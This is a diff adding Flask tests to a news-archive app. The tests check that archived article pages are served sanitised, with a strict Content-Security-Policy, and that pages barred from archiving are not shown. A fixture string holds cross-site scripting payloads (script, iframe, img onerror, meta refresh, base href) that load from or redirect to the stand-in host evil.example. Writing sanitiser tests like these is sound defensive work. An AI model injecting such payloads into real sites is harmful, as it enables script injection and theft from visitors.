@@ -7,6 +7,7 @@ from datetime import UTC, datetime
 from flask.testing import FlaskClient
 
 from index.article import Right, TextKind
+from tests.index.kept.kept import kept, save
 from tests.search.newsroom import STORIES, Newsroom
 from tests.search.newsroom import article as made
 
@@ -80,3 +81,38 @@ def test_kinds_of_text_and_rights_are_filters_and_facets(newsroom: Newsroom, cli
     assert '<h3 id="rail-kind">Kind of text' in client.get("/search?q=lighthouse").text
     assert 'id="rail-kind"' not in client.get("/search?q=tariff").text
     assert "<dt>Kind</dt>" in client.get(f"/articles/{live.id}").text
+
+
+HOSTILE = (
+    "<title>Tide</title><script src=//evil.example/x.js>alert(1)</script><style>@import '//evil.example'</style>"
+    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><p onclick='steal()'>The tide <b>rose</b>"
+    "<img src=//evil.example/p.png onerror=alert(1)><iframe src=//evil.example></iframe>&lt;script&gt;alert(2)&lt;/script&gt;"
+)
+
+
+def test_a_page_is_shown_as_it_was_read_and_nothing_of_it_lives(newsroom: Newsroom, client: FlaskClient) -> None:
+    settings = replace(newsroom.settings, kept_pages_room=0)
+    story = made(71, "Tide", "The tide rose and nobody was there to see it.")
+    save(settings, newsroom.archive, story, body=HOSTILE)
+    newsroom.publish(story)
+    address = f"/articles/{story.id}/page"
+    assert f'href="{address}"' in client.get(f"/articles/{story.id}").text
+    answer = client.get(address)
+    shown = answer.text.partition('id="page-heading"')[2]
+    assert answer.status_code == 200
+    assert "<p>The tide rose</p>\n<p>&lt;script&gt;alert(2)&lt;/script&gt;</p>" in shown
+    assert "evil.example" not in answer.text
+    assert "steal" not in answer.text
+    assert "script-src" not in answer.headers["Content-Security-Policy"]
+    assert answer.headers["Content-Security-Policy"].startswith("default-src 'none';")
+    newsroom.archive.kept_pages.forget_file(kept(newsroom.archive, story).place.file)
+    assert client.get(address).status_code == 404
+    assert f'href="{address}"' not in client.get(f"/articles/{story.id}").text
+
+
+def test_a_page_that_must_not_be_kept_is_not_shown(newsroom: Newsroom, client: FlaskClient) -> None:
+    settings = replace(newsroom.settings, kept_pages_room=0)
+    story = replace(made(72, "Ebb", "The tide fell."), rights=(Right.NO_ARCHIVE,))
+    save(settings, newsroom.archive, story)
+    newsroom.publish(story)
+    assert client.get(f"/articles/{story.id}/page").status_code == 404
